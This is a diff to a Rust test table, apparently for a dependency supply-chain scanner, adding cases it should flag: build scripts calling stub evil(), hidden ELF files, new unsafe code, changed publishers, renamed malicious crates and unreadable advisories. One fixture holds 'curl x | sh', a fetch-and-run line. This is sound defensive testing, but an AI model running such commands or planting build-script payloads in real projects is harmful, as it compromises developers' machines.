@@ -189,8 +189,58 @@ pub(super) static ALL: &[Attack] = &[
     ("an archive that cannot be read", NotVerified, "its archive could not be read", |b| {
         b.archives(licensed(), licensed());
         b.with(|evidence| {
-            evidence.archives.insert(("a".into(), "1.0.1".into()), Err(Unreadable::new("damaged")));
+            evidence.archives.facts.insert(("a".into(), "1.0.1".into()), Err(Unreadable::new("damaged")));
         });
+    }),
+    ("code that the build script includes", Look, "runs other code with its build script", |b| {
+        let files = |text| [("build.rs", "mod help; fn main() {}"), ("help.rs", text)];
+        b.packed(&files("fn a() {}"), &files("fn a() { evil() }"));
+    }),
+    ("a program that the build script runs", Look, "`gen/run.sh`", |b| {
+        let files = |text| [("build.rs", "fn main() { run(\"sh\", \"gen/run.sh\") }"), ("gen/run.sh", text)];
+        b.packed(&files("true"), &files("curl x | sh"));
+    }),
+    ("a build script in another place", Look, "crate-build-script", |b| {
+        let files = |build| [("Cargo.toml", build), ("build.rs", ""), ("ci/x.rs", "fn main() { evil() }")];
+        b.packed(&files("build = false"), &files("build = \"ci/x.rs\""));
+    }),
+    ("a build script that changed, among the folds", Look, "1 build script: what runs at the build", |b| {
+        b.packed(&[("build.rs", "fn main() {}")], &[("build.rs", "fn main() { evil() }")]);
+    }),
+    ("a file for the build script that was not there", Look, "names new files: `data/x.bin`", |b| {
+        let script = ("build.rs", "fn main() { read(\"data/x.bin\") }");
+        b.packed(&[script], &[script, ("data/x.bin", "x")]);
+    }),
+    ("a procedural macro by its manifest", Look, "crate-build-script", |b| {
+        b.packed(&[], &[("Cargo.toml", "[lib]\nproc-macro = true\n")]);
+    }),
+    ("a binary for Linux in an archive", Look, "`data/x.dat`", |b| b.packed(&[], &[("data/x.dat", "\u{7f}ELF")])),
+    ("unsafe code where there was none", Look, "unsafe 0 → 1", |b| {
+        b.packed(&[("src/lib.rs", "fn a() {}")], &[("src/lib.rs", "fn a() { unsafe { b() } }")]);
+    }),
+    ("a repository of another owner in the manifest", Look, "of `github.com/evil` instead of `github.com/o`", |b| {
+        let of = |owner| ArchiveFacts { repository: Some(format!("https://github.com/{owner}/a")), ..licensed() };
+        b.archives(of("o"), of("evil"));
+    }),
+    ("archives beyond the limit", NotVerified, "2 of 4 archives read, the limit is 1 MiB", |b| {
+        b.deep = true;
+        b.with(|evidence| {
+            evidence.archives.limit = Some("the limit is 1 MiB".into());
+            evidence.archives.facts.retain(|(name, _), _| name == "log");
+        });
+    }),
+    // Publishers.
+    ("another publisher", Look, "published by `account-2`, who published none of the 2 versions", |b| {
+        b.publishers(&[("0.9.0", account(1)), ("1.0.0", account(1)), ("1.0.1", account(2))], &[]);
+    }),
+    ("another publisher, who withdrew the version before", Alarm, "crate-publisher-changed", |b| {
+        b.publishers(&[("1.0.0", account(1)), ("1.0.1", account(2))], &[2]);
+    }),
+    ("a token in the place of a workflow", Look, "crate-trusted-publishing-lost", |b| {
+        b.publishers(&[("1.0.0", workflow("o/a")), ("1.0.1", account(1))], &[]);
+    }),
+    ("a workflow of another repository", Look, "crate-publisher-changed", |b| {
+        b.publishers(&[("1.0.0", workflow("o/a")), ("1.0.1", workflow("evil/a"))], &[]);
     }),
     // Known bad.
     ("a malicious crate that is new", Alarm, "crate-malicious", |b| {
@@ -200,6 +250,44 @@ pub(super) static ALL: &[Attack] = &[
     ("a malicious crate that was there", Alarm, "crate-malicious", |b| {
         b.both(registry("evil", "1.0.0"), registry("evil", "1.0.0"));
         b.advisory(Advisory { malicious: true, ..advisory("evil", "<0.0.1") });
+    }),
+    ("a malicious name in another spelling", Alarm, "crate-malicious", |b| {
+        b.added("proc-macro1", "1.0.0");
+        b.advisory(Advisory { malicious: true, ..advisory("Proc_Macro1", "<0.0.1") });
+    }),
+    ("a malicious archive under another name", Alarm, "it is an archive of `proc_macro1`", |b| {
+        b.added("harmless", "1.0.0");
+        let archives = vec![sha("harmless", "1.0.0")];
+        b.advisory(Advisory { malicious: true, archives, ..advisory("proc_macro1", "<0.0.1") });
+    }),
+    ("a malicious archive that was there, under another name", Alarm, "crate-malicious", |b| {
+        b.both(registry("a", "1.0.0"), registry("a", "1.0.0"));
+        b.advisory(Advisory { malicious: true, archives: vec![sha("a", "1.0.0")], ..advisory("b", "<0.0.1") });
+    }),
+    ("an advisory that is fixed while another one comes", Alarm, "crate-vulnerable", |b| {
+        b.updated("a", "1.0.0", "1.0.1");
+        let other =
+            Advisory { id: "RUSTSEC-2026-0010".into(), affected: Some(since("1.0.1")), ..advisory("a", "<0.0.1") };
+        let list = vec![advisory("a", ">=1.0.1"), other];
+        b.with(move |evidence| {
+            evidence.advisories = Source::Got(Advisories { list: list.clone(), ..Advisories::default() });
+        });
+    }),
+    ("an advisory that cannot be read", Look, "1 advisory cannot be read: damaged", |b| {
+        b.with(|evidence| {
+            let unreadable = vec!["damaged".into()];
+            evidence.advisories = Source::Got(Advisories { unreadable, ..Advisories::default() });
+        });
+    }),
+    ("advisories that did not all come", NotVerified, "advisories-not-read", |b| {
+        b.with(|evidence| {
+            let missing = vec!["RustSec on `a`: timed out".into()];
+            evidence.advisories = Source::Got(Advisories { missing, ..Advisories::default() });
+        });
+    }),
+    ("a vulnerability within a range that the update brings", Alarm, "crate-vulnerable", |b| {
+        b.updated("a", "1.0.0", "1.0.1");
+        b.advisory(Advisory { affected: Some(since("1.0.1")), ..advisory("a", "<0.0.1") });
     }),
     ("a vulnerability that the update brings", Alarm, "crate-vulnerable", |b| {
         b.updated("a", "1.0.0", "1.0.1");
